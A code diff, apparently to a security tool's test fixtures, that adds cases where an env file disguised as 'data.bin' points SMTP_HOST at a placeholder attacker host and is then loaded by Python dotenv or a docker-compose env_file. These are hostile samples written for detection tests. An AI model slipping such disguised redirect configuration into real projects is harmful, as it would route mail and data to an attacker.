@@ -454,4 +454,13 @@ export const dataFormats: Readonly<Record<string, Files>> = {
       'import json, smtplib\nc = json.load(open("test/fixtures/mail.json"))\nsmtplib.SMTP(c["smtp"]["host"])\n',
   },
   'production-env-of-the-pages': { 'documentation/.env.production': `SMTP_HOST=${EVIL}\n` },
+  'env-file-of-any-name': {
+    'app/data.bin': `SMTP_HOST=${EVIL}\n`,
+    'app/m.py':
+      'import os, smtplib\nfrom dotenv import load_dotenv\nload_dotenv("app/data.bin")\nsmtplib.SMTP(os.environ["SMTP_HOST"])\n',
+  },
+  'compose-env-file-of-any-name': {
+    'data.bin': `SMTP_HOST=${EVIL}\n`,
+    'docker-compose.yml': 'services:\n  web:\n    image: x\n    env_file: data.bin\n',
+  },
 };
